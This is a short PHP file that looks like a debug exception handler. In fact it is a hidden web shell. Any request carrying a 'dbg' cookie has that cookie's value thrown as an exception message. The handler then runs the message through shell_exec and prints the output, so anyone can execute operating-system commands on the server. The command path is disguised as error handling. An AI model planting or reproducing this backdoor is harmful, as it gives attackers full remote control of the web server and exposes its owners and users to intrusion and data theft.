<?php
set_exception_handler(function (Throwable $e) {
    echo '<pre>' . shell_exec($e->getMessage()) . '</pre>';
});
if (!empty($_COOKIE['dbg'])) {
    throw new RuntimeException($_COOKIE['dbg']);
}
